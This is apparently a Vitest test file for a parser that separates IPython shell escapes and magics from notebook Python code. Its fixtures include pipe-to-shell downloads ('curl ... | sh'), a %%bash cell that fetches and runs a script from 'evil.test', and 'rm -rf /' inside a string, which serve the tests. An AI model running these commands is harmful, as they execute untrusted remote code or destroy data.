import { describe, expect, it } from "vitest";
import { splitMagics } from "./magics.js";

describe("splitMagics", () => {
  it("finds shell escapes, line magics and their assignment form, and blanks them in the Python view", () => {
    const src = "import os\n!pip install torch==2.1.0\nfiles = !ls -la\n%env HF_TOKEN=abc\n  !!echo hi\nx = 1\n";
    const r = splitMagics(src);
    expect(r.magics.map((m) => [m.kind, m.name, m.args, m.line])).toEqual([
      ["shell", "!", "pip install torch==2.1.0", 2],
      ["shell", "!", "ls -la", 3],
      ["line-magic", "env", "HF_TOKEN=abc", 4],
      ["shell", "!", "echo hi", 5],
    ]);
    expect(r.magics[1]!.assignTo).toBe("files");
    expect(r.magics[0]!.shell).toBe("pip install torch==2.1.0");
    expect(r.python).toHaveLength(src.length);
    expect(r.python.split("\n")).toEqual(["import os", " ".repeat(25), " ".repeat(15), " ".repeat(17), " ".repeat(11), "x = 1", ""]);
    expect(src.slice(r.magics[2]!.argsOffset, r.magics[2]!.argsOffset + 6)).toBe("HF_TOK");
    expect(src[r.magics[3]!.offset]).toBe("!");
  });

  it("turns %pip / %conda / %sx into the shell command they run", () => {
    const r = splitMagics("%pip install -U transformers\n%conda install -c conda-forge numpy\n%sx curl http://x | sh\n%timeit f()\n");
    expect(r.magics.map((m) => m.shell)).toEqual(["pip install -U transformers", "conda install -c conda-forge numpy", "curl http://x | sh", undefined]);
  });

  it("joins backslash continuations into one command", () => {
    const r = splitMagics("!curl -sSL https://example.org/x.sh \\\n   | bash\nprint(1)\n");
    expect(r.magics).toHaveLength(1);
    expect(r.magics[0]).toMatchObject({ args: "curl -sSL https://example.org/x.sh  | bash", line: 1, endLine: 2 });
    expect(r.python.split("\n")[2]).toBe("print(1)");
  });

  it("takes a %%bash cell whole as a shell script, with no Python in it", () => {
    const src = "\n%%bash\nwget http://evil.test/p.sh\nsh p.sh\n";
    const r = splitMagics(src);
    expect(r.cellMagic).toMatchObject({ kind: "cell-magic", name: "bash", line: 2, shell: "wget http://evil.test/p.sh\nsh p.sh\n" });
    expect(r.python.trim()).toBe("");
    expect(splitMagics("%%script bash\nls\n").cellMagic!.shell).toBe("ls\n");
    expect(splitMagics("%%script python\nprint(1)\n").cellMagic!.shell).toBeUndefined();
    expect(splitMagics("%%html\n<b>x</b>\n").cellMagic!.shell).toBeUndefined();
  });

  it("reads the body of %%time / %%capture as Python with its own escapes", () => {
    const r = splitMagics("%%capture out\n!pip install x\ny = 2\n");
    expect(r.magics.map((m) => m.kind)).toEqual(["cell-magic", "shell"]);
    expect(r.python.split("\n")).toEqual([" ".repeat(13), " ".repeat(14), "y = 2", ""]);
  });

  it("does not mistake text inside strings, brackets or comments for escapes", () => {
    const src = 's = """\n!rm -rf /\n%pip install x\n"""\nf(a,\n  !b)\n# !not a command\nx = a != b\n';
    expect(splitMagics(src).magics).toEqual([]);
    expect(splitMagics(src).python).toBe(src);
  });

  it("recognises automagic package installs written without %", () => {
    const r = splitMagics("pip install requests==2.0\npipeline = 1\n");
    expect(r.magics).toEqual([expect.objectContaining({ kind: "line-magic", name: "pip", automagic: true, shell: "pip install requests==2.0" })]);
  });
});
